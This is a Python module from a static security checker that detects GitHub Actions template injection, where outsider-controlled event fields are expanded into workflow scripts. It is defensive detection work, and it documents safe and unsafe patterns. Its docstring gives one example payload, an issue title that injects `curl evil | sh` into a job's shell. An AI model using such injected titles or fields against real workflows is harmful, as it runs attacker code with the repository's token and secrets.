"""GitHub Actions template injection: a `${{ }}` expression an outsider writes, expanded into a
job's script -> the `template_injection` facet, judged by NHI325
(`checker.checks.ci_injection`).

GitHub expands `${{ ... }}` in a `run:` value (and in `actions/github-script`'s `script:`)
before the shell or Node sees it, so an issue titled `x"; curl evil | sh; "` becomes a command
of the job, run with its GITHUB_TOKEN and the secrets it references. That is code execution
by whoever can write the value, when whoever can cause the event may write it
(`OUTSIDER_TRIGGERS`).

What is read, per job of a workflow with an outsider trigger (facts only; the check decides):
- each `run:` of a step, and the input that an action runs as a script (`SCRIPT_INPUTS`:
  `actions/github-script` `script`, `appleboy/ssh-action` `script`,
  `addnab/docker-run-action` `run`, `nick-fields/retry` `command`);
- in them, each `${{ ... }}` whose expression reads a value the event's author chose
  (`_untrusted`): a context path ending in `title`, `body`, `message`, `ref`, `label`,
  `email`, `default_branch`, `page_name`, a git author's or committer's `name`,
  `head_branch` or `display_title`, under the event's issue, pull request (its head, not its
  base), comment, review, discussion, wiki pages, commits or triggering run; `github.head_ref`;
  or a whole such object serialised (`toJSON(github.event.issue)`); or `env.NAME` where the
  workflow's, job's or step's `env:` sets NAME from one of those (the template is expanded
  before the shell, so `${{ env.NAME }}` is the same injection); or `matrix.NAME` where the
  job's `strategy.matrix` builds NAME (or, a whole-matrix expression such as
  `${{ fromJSON(github.event.comment.body) }}`, every value) from one of those. An
  expression whose result is a boolean (`contains(...)`, `startsWith(...)`, `endsWith(...)`,
  a comparison with no `&&`/`||`) is not text, and passing the value through `env:` and
  reading `"$NAME"` in the script is the safe form: neither is read.

A composite action or reusable workflow has no trigger of its own: `checker.secrets.ci_calls`
reads what its callers pass it and where it expands its inputs (`expansions`, with the same
reading and `inputs.NAME` as the untrusted value).

A step output, `$GITHUB_ENV` variable or job output a step computed from such a value
(`${{ steps.t.outputs.title }}` after `echo "title=$(jq -r .pull_request.title
"$GITHUB_EVENT_PATH")" >> "$GITHUB_OUTPUT"`, github-script's `result` returning
`context.payload.comment.body`) is such a value too: `checker.secrets.ci_outputs` with
`reads_untrusted`. Not read: triggers whose actor already has write access (`push`,
`workflow_dispatch`) or whose fork runs get no secrets (`pull_request`).

The facet: address `<path>#jobs.<id>.template-injection`, lines from its first to its last
injected line, `attribute_lines` `anchor` (the first) and `on.<trigger>` for each outsider
trigger; `secret_sinks` `trigger:<event>` for each, `injects:<line> <step> <expression>`
for each occurrence (the expression's text, never a value) and `action:<step> <action>` for
a step whose script is an action's input; `inputs` the trigger lines and the lines of the
matrix values it reads, so a change of those alone touches it.

Sources: GitHub, "Script injections"
(https://docs.github.com/en/actions/concepts/security/script-injections: contexts ending in
body, default_branch, email, head_ref, label, message, name, page_name, ref and title are
untrusted; an intermediate environment variable is the fix); GitHub Security Lab, "Keeping
your GitHub Actions and workflows secure Part 2: Untrusted input"
(https://securitylab.github.com/resources/github-actions-untrusted-input/); who may trigger
each event: https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows;
zizmor's `template-injection` (https://docs.zizmor.sh/audits/#template-injection) is the peer;
matrix values an outsider chose: https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstrategymatrix
(a matrix may be built with `fromJSON`); each `SCRIPT_INPUTS` action's README (its input runs
as a script or command): https://github.com/actions/github-script,
https://github.com/appleboy/ssh-action, https://github.com/addnab/docker-run-action,
https://github.com/nick-fields/retry.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import replace

from yaml.nodes import MappingNode, Node, ScalarNode, SequenceNode

from checker.lazy_patterns import lazy_compile
from checker.model import IdentityObject, Location
from checker.parsers.github_keys import trigger_lines
from checker.safeyaml import get, items, line_of, scalar, sequence
from checker.secrets.ci_outputs import needs_names, output_refs, step_names
from checker.secrets.facets import facet

TYPE = "template_injection"
#: Events someone without write access causes, whose run has the base repository's token and
#: secrets (a fork's `pull_request_review*` run has neither, but a review of a pull request
#: from the repository itself, which anyone may write, has both); in the order a message
#: names the first.
OUTSIDER_TRIGGERS = (
    "pull_request_target", "issue_comment", "issues", "discussion", "discussion_comment",
    "pull_request_review", "pull_request_review_comment", "workflow_run", "gollum")
_EXPRESSION = lazy_compile(r"\$\{\{(.*?)\}\}", re.S)
#: An event object whose text fields its author chose, and the path after it.
_EVENT_PATH = lazy_compile(
    r"github\.event\.(issue|pull_request|comment|review|review_comment|discussion|head_commit"
    r"|workflow_run|pages|commits)((?:\.[\w*-]+|\[[^\]]*\])*)")
#: The last key of an untrusted path (GitHub's list); `name` only of a git author or
#: committer (a repository's name is restricted to `[\w.-]`).
_FIELDS = frozenset({"title", "body", "message", "ref", "label", "email", "default_branch",
                     "page_name", "head_branch", "display_title"})
_GIT_PEOPLE = frozenset({"author", "committer"})
#: Parts of an event object its author does not choose: the base branch, labels and users
#: (set by maintainers or GitHub).
_TRUSTED_PARTS = frozenset({"base", "labels", "label", "user", "milestone", "assignee",
                            "assignees", "requested_reviewers", "sender", "repository"})
_HEAD_REF = lazy_compile(r"\bgithub\.head_ref\b")
_WHOLE = lazy_compile(
    r"toJSON\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|review_comment"
    r"|discussion|head_commit|workflow_run|pages|commits))?\s*\)", re.I)
_ENV_REF = lazy_compile(r"\benv\.([A-Za-z_][\w-]*)")
#: `matrix.NAME` and `inputs.NAME`: tainted as `matrix.NAME` (`matrix.*`: all of them).
_CONTEXT_REF = lazy_compile(r"(?<![\w.])(matrix|inputs)\.([A-Za-z_][\w-]*)")
#: Actions that run one of their inputs as a script or command (module doc): action -> input.
SCRIPT_INPUTS = {
    "actions/github-script": "script",  # JavaScript, run by Node
    "appleboy/ssh-action": "script",  # a shell script, run on the remote host
    "addnab/docker-run-action": "run",  # a shell script, run in the container
    "nick-fields/retry": "command",  # a shell command, run on the runner
}
_BOOLEAN_CALL = lazy_compile(r"(?i)^(?:contains|startsWith|endsWith)\s*\(")
_COMPARISON = lazy_compile(r"==|!=|<=|>=|(?<![-=])[<>]")
_LITERAL = lazy_compile(r"'(?:[^']|'')*'")
#: The event file and jq paths into it; github-script's copy of the event; gh's views of an
#: issue or pull request and the JSON fields of those that hold an outsider's text.
_EVENT_FILE = lazy_compile(r"\$\{?GITHUB_EVENT_PATH\b|github\.event_path\b")
_JQ_PATH = lazy_compile(r"(?:(?<=\s)|(?<=['\"]))(\.[A-Za-z_]\w*(?:\.[A-Za-z_]\w*|\[[^\]]*\])*)")
_PAYLOAD = lazy_compile(r"\bcontext\.payload((?:\.[A-Za-z_]\w*|\[[^\]]*\])*)")
_GH_VIEW = lazy_compile(r"\bgh\s+(?:pr|issue)\s+view\b")
_GH_JSON = lazy_compile(r"--json[\s=]+['\"]?([\w,]+)")
_GH_TEXT = frozenset({"title", "body", "comments", "reviews", "latestReviews", "commits",
                      "headRefName"})


def injections(path: str, root: MappingNode, jobs: Sequence[tuple[str, Node, Node]],
               raw: list[str]) -> list[IdentityObject]:
    """The `template_injection` facets of a workflow (see the module doc), one per job with an
    injected expression; none unless it has an `OUTSIDER_TRIGGERS` trigger. `jobs` are its
    `(id, key, job)` mapping entries, `raw` its text split on `\\n`; lines are 1-based."""
    lines = trigger_lines(root)
    events = [e for e in OUTSIDER_TRIGGERS if f"on.{e}" in lines]
    if not events:
        return []
    tainted = tainted_env(get(root, "env"), frozenset())
    tainted |= needs_names(jobs, lambda job, found: job_taint(job, tainted | found),
                           reads_untrusted, tainted_env)
    out: list[IdentityObject] = []
    for job_id, _, job in jobs:
        matrix = matrix_taint(job)
        found, actions = job_injections(job, job_taint(job, tainted), raw)
        if not found:
            continue
        first, last = min(n for n, _, _ in found), max(n for n, _, _ in found)
        sinks = [*(f"trigger:{e}" for e in events),
                 *(f"injects:{n} {step} {expr}" for n, step, expr in found),
                 *(f"action:{step} {action}" for step, action in sorted(actions.items()))]
        read = {m.group(0) for _, _, e in found for m in _CONTEXT_REF.finditer(e)}
        used = sorted((name, line) for name, line in matrix.items()
                      if name in read or (name == "matrix.*" and any(
                          r.startswith("matrix.") for r in read)))
        obj = facet(path, TYPE, "ci_credential", "github",
                    f"{path}#jobs.{job_id}.template-injection", first, last, first, sinks)
        out.append(replace(
            obj, attribute_lines={**obj.attribute_lines,
                                  **{f"on.{e}": lines[f"on.{e}"] for e in events}},
            inputs=(*((f"on: {e}", Location(path, lines[f"on.{e}"], lines[f"on.{e}"]))
                      for e in events),
                    *((name, Location(path, line, line)) for name, line in used))))
    return out


def job_taint(job: Node, outer: frozenset[str]) -> frozenset[str]:
    """`outer` plus the job's tainted `env:` names and matrix values (`matrix_taint`)."""
    return tainted_env(get(job, "env"), outer | frozenset(matrix_taint(job)))


def matrix_taint(job: Node) -> dict[str, int]:
    """`matrix.NAME` (`matrix.*` for a whole-matrix expression) -> its line, for each value
    of the job's `strategy.matrix` (its `include:` entries too) that reads an untrusted
    value."""
    matrix = get(get(job, "strategy"), "matrix")
    if isinstance(matrix, ScalarNode):
        return {"matrix.*": line_of(matrix)} if _reads_untrusted(matrix) else {}
    out: dict[str, int] = {}
    for name, key, value in items(matrix):
        if name in ("include", "exclude"):
            if name == "include" and isinstance(value, ScalarNode) and _reads_untrusted(value):
                out["matrix.*"] = line_of(value)
            for entry in sequence(value) if name == "include" else ():
                out.update({f"matrix.{k}": line_of(kk) for k, kk, v in items(entry)
                            if _reads_untrusted(v)})
        elif _reads_untrusted(value):
            out[f"matrix.{name}"] = line_of(key)
    return out


def _reads_untrusted(node: Node | None) -> bool:
    """True when a scalar under `node` holds an untrusted expression."""
    if isinstance(node, ScalarNode):
        return any(_untrusted(e, frozenset()) for e in _expressions(str(node.value)))
    if isinstance(node, SequenceNode):
        return any(_reads_untrusted(n) for n in node.value)
    return any(_reads_untrusted(v) for _, _, v in items(node))


def tainted_env(env: Node | None, outer: frozenset[str]) -> frozenset[str]:
    """`outer` plus the names of the `env:` mapping `env` whose value reads an untrusted
    value (`untrusted`, with `outer` tainted)."""
    return outer | {name for name, _, value in items(env)
                    if any(_untrusted(e, outer) for e in _expressions(scalar(value) or ""))}


def _expressions(text: str) -> list[str]:
    return [m.group(1).strip() for m in _EXPRESSION.finditer(text)]


def job_injections(job: Node, tainted: frozenset[str], raw: list[str]
                   ) -> tuple[list[tuple[int, str, str]], dict[str, str]]:  # fmt: skip
    """(line, step, expression) of each injected expression of the steps of `job` (a job,
    or a composite action's `runs`), with `tainted` the untrusted `env.`/`matrix.`/`inputs.`
    names; and step -> action for each occurrence in an action's script input."""
    out: list[tuple[int, str, str]] = []
    actions: dict[str, str] = {}
    per_step, _ = step_names(job, tainted, reads_untrusted, tainted_env)
    for index, step in enumerate(sequence(get(job, "steps"))):
        if not isinstance(step, MappingNode):
            continue
        names = per_step[index]
        uses = (scalar(get(step, "uses")) or "").split("@", 1)[0].strip().lower().rstrip("/")
        script = SCRIPT_INPUTS.get(uses)
        node = get(step, "run") if not uses else (
            get(get(step, "with"), script) if script is not None else None)
        if node is None or scalar(node) is None:
            continue
        where = f"steps[{index}]" + (f".with.{script}" if uses else ".run")
        found = [(n, where, expr) for n, expr in _placed(node, names, raw)]
        out.extend(found)
        actions.update({where: uses} if uses and found else {})
    return out, actions


def _placed(node: Node, tainted: frozenset[str], raw: list[str]) -> list[tuple[int, str]]:
    """(line, expression) of each untrusted expression of a script scalar, on the source line
    that holds it: read from the file's `raw` lines within the node's marks (a folded or
    quoted scalar's value joins its lines; its source does not)."""
    start, end = node.start_mark, node.end_mark
    last = end.line - 1 if end.column == 0 and end.line > start.line else end.line
    out: list[tuple[int, str]] = []
    for number in range(start.line, min(last, len(raw) - 1) + 1):
        text = raw[number]
        if number == last and last == end.line:
            text = text[:end.column]
        if number == start.line:
            text = text[start.column:]
        out.extend((number + 1, e) for e in _expressions(text) if _untrusted(e, tainted))
    return out


def untrusted(expression: str, tainted: frozenset[str]) -> bool:
    """True when `expression` (inside `${{ }}`) yields text an outsider wrote (module doc),
    with `tainted` the untrusted `env.` names (bare) and `matrix.NAME`/`inputs.NAME`."""
    return _untrusted(expression, tainted)


def expressions(text: str) -> list[str]:
    """The `${{ ... }}` expressions of `text`, stripped."""
    return _expressions(text)


def _untrusted(expression: str, tainted: frozenset[str]) -> bool:
    """True when `expression` (inside `${{ }}`) yields text an outsider wrote: see the module
    doc. A boolean result is not text."""
    text = expression.strip()
    bare = _LITERAL.sub("''", text)  # operators inside a string literal are text
    if (_BOOLEAN_CALL.match(text) and text.endswith(")")) or (
            _COMPARISON.search(bare) and "&&" not in bare and "||" not in bare):
        return False
    if _HEAD_REF.search(text) or _WHOLE.search(text):
        return True
    if any(m.group(1) in tainted for m in _ENV_REF.finditer(text)):
        return True
    if any(m.group(0) in tainted or f"{m.group(1)}.*" in tainted
           for m in _CONTEXT_REF.finditer(text)) or output_refs(text, tainted):
        return True
    return any(_untrusted_path(m.group(2)) for m in _EVENT_PATH.finditer(text))


def _untrusted_path(rest: str) -> bool:
    """True when the path after an event object (`.head.ref`, `.commits[0].author.name`)
    ends in an author-chosen field outside `_TRUSTED_PARTS`."""
    parts = [p for p in re.split(r"[.\[\]]+", rest) if p and p != "*" and not p.isdigit()]
    if not parts or any(p in _TRUSTED_PARTS for p in parts[:-1]):
        return False
    last = parts[-1]
    if last == "name":
        return len(parts) > 1 and parts[-2] in _GIT_PEOPLE
    return last in _FIELDS


def reads_untrusted(text: str, tainted: frozenset[str]) -> bool:
    """True when a script line or github-script code reads text an outsider wrote, so what it
    writes to a step output or `$GITHUB_ENV` is theirs (`checker.secrets.ci_outputs`): an
    untrusted `${{ }}` (`untrusted`), the event file (`$GITHUB_EVENT_PATH`) read whole or at
    an untrusted path (`jq -r .pull_request.title`), github-script's `context.payload` at an
    untrusted path, or `gh pr view`/`gh issue view` printing the title, body, comments,
    reviews, commits or head branch (https://cli.github.com/manual/gh_pr_view)."""
    if any(_untrusted(e, tainted) for e in _expressions(text)):
        return True
    if _EVENT_FILE.search(text):
        paths = _JQ_PATH.findall(text)
        return not paths or any(_untrusted("github.event" + p, tainted) for p in paths)
    if any(_untrusted("github.event" + m.group(1), tainted) or not m.group(1)
           for m in _PAYLOAD.finditer(text)):
        return True
    view = _GH_VIEW.search(text)
    if view is None:
        return False
    fields = _GH_JSON.search(text[view.end():])
    return fields is None or bool(_GH_TEXT & set(fields.group(1).split(",")))
